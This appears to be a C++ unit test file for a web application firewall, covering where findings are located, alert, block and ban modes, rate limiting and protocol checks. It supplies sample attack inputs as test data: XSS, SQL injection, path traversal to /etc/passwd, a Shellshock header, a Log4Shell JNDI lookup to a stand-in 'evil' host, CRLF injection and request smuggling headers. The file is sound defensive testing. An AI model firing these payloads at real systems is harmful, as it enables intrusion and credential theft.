// The Waf as the proxy sees it: findings with their locations, actions per mode, access
// lists, bans and the rate limit (with a test clock), protocol checks, several threads.
#include <gtest/gtest.h>

#include <atomic>
#include <thread>

#include "tests/cnaf/waf/waf_test_util.h"

namespace defender::cnaf::waf {
namespace {

using testing::all;
using testing::Request;

Verdict run(const Waf& waf, Request& r) { return waf.inspect_content(r.view()); }

std::string location_of(Request r) {
  const Waf waf(all(policy::Mode::prevent));
  const Verdict v = run(waf, r);
  if (v.findings.empty()) return "(none)";
  return v.findings.front().location;
}

TEST(WafLocations, EveryPlaceAnAttackHides) {
  const std::string xss = "<script>alert(1)</script>";
  const std::string enc = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
  Request q;
  q.target = "/search?page=2&q=" + enc;
  EXPECT_EQ(location_of(q), "query:q");
  Request qn;
  qn.target = "/search?" + enc + "=1";
  EXPECT_EQ(location_of(qn), "query-name:" + xss);
  Request p;
  p.target = "/files/..%2f..%2f..%2fetc%2fpasswd";
  EXPECT_EQ(location_of(p), "path");
  Request f;
  f.post("application/x-www-form-urlencoded", "name=bob&comment=" + enc);
  EXPECT_EQ(location_of(f), "body:form:comment");
  Request j;
  j.post("application/json", R"({"user":{"name":"x","bio":"<script>alert(1)</script>"},"tags":["a"]})");
  EXPECT_EQ(location_of(j), "body:json:$.user.bio");
  Request ja;
  ja.post("application/json", R"({"tags":["a","1' or '1'='1"]})");
  EXPECT_EQ(location_of(ja), "body:json:$.tags[1]");
  // Escaped quotes and backslash runs end (or not) the strings where JSON says.
  Request je;
  je.post("application/json", R"({"a":"say \"hi\" \\","b\\":"c\\\"d","q":"1' or '1'='1"})");
  EXPECT_EQ(location_of(je), "body:json:$.q");
  Request m;
  m.post("multipart/form-data; boundary=XyZ",
         "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n"
         "--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n" + xss + "\r\n--XyZ--\r\n");
  EXPECT_EQ(location_of(m), "body:multipart:bio");
  Request mf;
  mf.post("multipart/form-data; boundary=XyZ",
          "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\nx\r\n--XyZ--\r\n");
  EXPECT_EQ(location_of(mf), "body:multipart-filename:f");
  Request x;
  x.post("application/xml", "<a><b attr=\"1\">" + std::string("&lt;script&gt;alert(1)&lt;/script&gt;") + "</b></a>");
  EXPECT_EQ(location_of(x), "body:xml");
  Request c;
  c.header("Cookie", "theme=dark; sid=1%27%20or%201%3D1--");
  EXPECT_EQ(location_of(c), "cookie:sid");
  Request ua;
  ua.headers[1].second = "() { :; }; /bin/cat /etc/passwd";
  EXPECT_EQ(location_of(ua), "header:user-agent");
  Request custom;
  custom.header("X-Api-Debug", "${jndi:ldap://evil/a}");
  EXPECT_EQ(location_of(custom), "header:x-api-debug");
  Request b64;
  b64.target = "/?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";
  EXPECT_EQ(location_of(b64), "query:data");
}

TEST(WafFindings, CarryProtectionRuleSnippetAndMessage) {
  const Waf waf(all(policy::Mode::prevent));
  Request r;
  r.target = "/item?id=1%20UNION%20SELECT%20password%20FROM%20users";
  const Verdict v = run(waf, r);
  ASSERT_EQ(v.findings.size(), 1u);
  EXPECT_EQ(v.outcome, Verdict::Outcome::block);
  EXPECT_EQ(v.status, 403);
  const Finding& f = v.findings[0];
  EXPECT_EQ(f.protection, "sqli");
  EXPECT_EQ(f.rule, "cnaf.protections.sqli");
  EXPECT_EQ(f.action, "prevent");
  EXPECT_NE(f.match.find("UNION SELECT"), std::string::npos) << f.match;
  EXPECT_FALSE(f.message.empty());
}

TEST(WafModes, AlertAllowsDisableIgnoresBanBans) {
  Request r;
  r.target = "/?q=%3Cscript%3Ealert(1)%3C/script%3E";
  {
    const Waf waf(all(policy::Mode::alert));
    const Verdict v = run(waf, r);
    EXPECT_TRUE(v.allowed());
    ASSERT_FALSE(v.findings.empty());
    EXPECT_EQ(v.findings[0].action, "alert");
  }
  {
    const Waf waf(all(policy::Mode::disable));
    const Verdict v = run(waf, r);
    EXPECT_TRUE(v.allowed());
    EXPECT_TRUE(v.findings.empty());
  }
  {
    auto cfg = all(policy::Mode::prevent);
    cfg.modes[static_cast<std::size_t>(Protection::xss)] = policy::Mode::ban;
    cfg.ban_seconds = 60;
    auto now = std::chrono::steady_clock::time_point{};
    WafOptions opt;
    opt.clock = [&] { return now; };
    Waf waf(cfg, opt);
    r.client = "10.0.0.7";
    EXPECT_EQ(waf.inspect(r.view()).outcome, Verdict::Outcome::ban);
    Request clean;
    clean.client = "10.0.0.7";
    EXPECT_EQ(waf.inspect(clean.view()).outcome, Verdict::Outcome::ban);
    EXPECT_EQ(waf.on_connection("10.0.0.7").outcome, Verdict::Outcome::ban);
    EXPECT_TRUE(waf.on_connection("10.0.0.8").allowed());
    now += std::chrono::seconds(61);
    EXPECT_TRUE(waf.inspect(clean.view()).allowed());
  }
}

TEST(WafAccess, DenyAndAllowLists) {
  auto cfg = all(policy::Mode::prevent);
  ASSERT_FALSE(cfg.deny_set.add("10.1.0.0/16", 0));
  ASSERT_FALSE(cfg.allow_set.add("10.0.0.0/8", 0));
  Waf waf(cfg);
  EXPECT_FALSE(waf.on_connection("10.1.2.3").allowed());
  EXPECT_EQ(waf.on_connection("10.1.2.3").findings.at(0).rule, "cnaf.access.deny_cidrs[0]");
  EXPECT_TRUE(waf.on_connection("10.2.3.4").allowed());
  EXPECT_FALSE(waf.on_connection("192.168.1.1").allowed());
  Request r;
  r.client = "10.1.9.9";
  EXPECT_FALSE(waf.inspect(r.view()).allowed());
}

TEST(WafRateLimit, TokenBucketPerClientThen429OrBan) {
  auto cfg = all(policy::Mode::prevent);
  cfg.rate_limit.requests_per_second = 2;
  cfg.rate_limit.burst = 3;
  auto now = std::chrono::steady_clock::time_point{};
  WafOptions opt;
  opt.clock = [&] { return now; };
  {
    Waf waf(cfg, opt);
    Request r;
    r.client = "10.0.0.1";
    for (int i = 0; i < 3; ++i) EXPECT_TRUE(waf.inspect(r.view()).allowed()) << i;
    const Verdict limited = waf.inspect(r.view());
    EXPECT_EQ(limited.outcome, Verdict::Outcome::block);
    EXPECT_EQ(limited.status, 429);
    Request other;
    other.client = "10.0.0.2";
    EXPECT_TRUE(waf.inspect(other.view()).allowed());
    now += std::chrono::milliseconds(500);  // one token back
    EXPECT_TRUE(waf.inspect(r.view()).allowed());
    EXPECT_FALSE(waf.inspect(r.view()).allowed());
  }
  cfg.rate_limit.action = policy::Mode::ban;
  {
    Waf waf(cfg, opt);
    Request r;
    r.client = "10.0.0.3";
    for (int i = 0; i < 3; ++i) waf.inspect(r.view());
    EXPECT_EQ(waf.inspect(r.view()).outcome, Verdict::Outcome::ban);
    EXPECT_EQ(waf.on_connection("10.0.0.3").outcome, Verdict::Outcome::ban);
  }
}

TEST(WafClientTables, StayBounded) {
  auto now = std::chrono::steady_clock::time_point{};
  RateLimiter limiter(1, 1, 64, [&] { return now; });
  BanTable bans(64, [&] { return now; });
  for (int i = 0; i < 10000; ++i) {
    const std::string ip = "10.0." + std::to_string(i / 256) + "." + std::to_string(i % 256);
    limiter.allow(ip);
    bans.ban(ip, std::chrono::seconds(10));
  }
  EXPECT_LE(limiter.size(), 64u);
  EXPECT_LE(bans.size(), 64u);
}

TEST(WafProtocol, RequestLineAndHeaders) {
  const Waf waf(all(policy::Mode::prevent));
  const auto blocked = [&](Request r) { return !run(waf, r).allowed(); };
  Request ok;
  EXPECT_FALSE(blocked(ok));
  Request method;
  method.method = "TRACK";
  EXPECT_TRUE(blocked(method));
  Request version;
  version.version = "HTTP/1.7";
  EXPECT_TRUE(blocked(version));
  Request nohost;
  nohost.headers = {{"User-Agent", "x"}};
  EXPECT_TRUE(blocked(nohost));
  Request smuggle;
  smuggle.post("application/x-www-form-urlencoded", "a=1");
  smuggle.header("Transfer-Encoding", "chunked");
  EXPECT_TRUE(blocked(smuggle));
  Request two_cl;
  two_cl.post("application/x-www-form-urlencoded", "a=1");
  two_cl.header("Content-Length", "7");
  EXPECT_TRUE(blocked(two_cl));
  Request crlf;
  crlf.target = "/?next=%0d%0aSet-Cookie:%20sid=evil";
  EXPECT_TRUE(blocked(crlf));
  Request badpct;
  badpct.target = "/?a=%zz";
  EXPECT_TRUE(blocked(badpct));
  Request badjson;
  badjson.post("application/json", "{\"a\":");
  EXPECT_TRUE(blocked(badjson));
}

TEST(WafProtocol, StructuredBodiesLongerThanInspectedAreRefused) {
  const Waf waf(all(policy::Mode::prevent));
  // The proxy hands over the first inspect_body_bytes of a longer body, marked truncated.
  const auto longer = [](std::string type, std::string start, std::string declared = "500000") {
    Request r;
    r.post(std::move(type), std::move(start));
    r.headers.back().second = std::move(declared);  // Content-Length
    r.body_truncated = true;
    return r;
  };
  for (const char* type : {"application/x-www-form-urlencoded", "application/json", "application/vnd.api+json",
                           "text/xml", "application/soap+xml"}) {
    Request r = longer(type, std::string(type).find("xml") != std::string::npos ? "<a>1</a>" : "a=1");
    const Verdict v = run(waf, r);
    EXPECT_FALSE(v.allowed()) << type;
    ASSERT_FALSE(v.findings.empty()) << type;
    EXPECT_EQ(v.findings.front().protection, "protocol");
    EXPECT_NE(v.findings.front().message.find("longer than cnaf.limits.inspect_body_bytes (131072)"),
              std::string::npos) << v.findings.front().message;
  }
  // Files and raw uploads stream on; a body that ends at the limit is whole; alert lets it by.
  for (const char* type : {"application/octet-stream", "image/png", "multipart/form-data; boundary=x"}) {
    Request r = longer(type, "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\nPNG");
    EXPECT_TRUE(run(waf, r).allowed()) << type;
  }
  Request at_limit = longer("application/json", "{\"a\":1", "131072");
  EXPECT_TRUE(run(waf, at_limit).allowed());
  WafConfig alert = all(policy::Mode::prevent);
  alert.modes[static_cast<std::size_t>(Protection::protocol)] = policy::Mode::alert;
  const Waf alerting(alert);
  Request json = longer("application/json", "{\"a\":1");
  const Verdict v = run(alerting, json);
  EXPECT_TRUE(v.allowed());
  EXPECT_EQ(v.findings.size(), 1u);
}

TEST(WafBenign, HardCasesPass) {
  const Waf waf(all(policy::Mode::prevent));
  const auto passes = [&](Request r) {
    const Verdict v = run(waf, r);
    return v.allowed() ? std::string() : v.findings.at(0).protection + " " + v.findings.at(0).location;
  };
  Request name;
  name.post("application/x-www-form-urlencoded", "name=Miles+O%27Brien&city=Dublin");
  EXPECT_EQ(passes(name), "");
  Request forum;
  forum.post("application/json",
             R"({"title":"Why is my query slow?","body":"I run this:\n\n```sql\nSELECT a, b FROM t1 UNION SELECT a, b FROM t2 WHERE x = 'y' -- all rows\n```\n\nand `rm -rf build` first. Any ideas?"})");
  EXPECT_EQ(passes(forum), "");
  Request prose;
  prose.target = "/search?q=union+was+a+great+select+of+people";
  EXPECT_EQ(passes(prose), "");
  Request escaped;
  escaped.post("application/x-www-form-urlencoded",
               "comment=Use+%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B+to+test");
  EXPECT_EQ(passes(escaped), "");
  Request span;
  span.post("application/x-www-form-urlencoded",
            "comment=Use+%60%3Cimg+src%3Dx+onerror%3Dy%3E%60+in+a+code+span%0D%0Alike+this+one%2C+it+is+shown+as+text");
  EXPECT_EQ(passes(span), "");
  Request redirect;
  redirect.target = "/login?return_to=%2Faccount%2Fsettings%3Ftab%3Dsecurity&next=https%3A%2F%2Fshop.example.com%2F";
  EXPECT_EQ(passes(redirect), "");
}

TEST(WafThreads, ConcurrentInspectionIsSafe) {
  auto cfg = all(policy::Mode::prevent);
  cfg.rate_limit.requests_per_second = 1000000;
  cfg.rate_limit.burst = 1000000;
  Waf waf(cfg);
  std::atomic<int> blocked{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 500; ++i) {
        Request r;
        r.client = "10.9." + std::to_string(t) + "." + std::to_string(i % 50);
        r.target = i % 2 ? "/?q=1%27%20or%201%3D1--" : "/?q=hello";
        if (!waf.inspect(r.view()).allowed()) ++blocked;
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(blocked.load(), 1000);
}

}  // namespace
}  // namespace defender::cnaf::waf
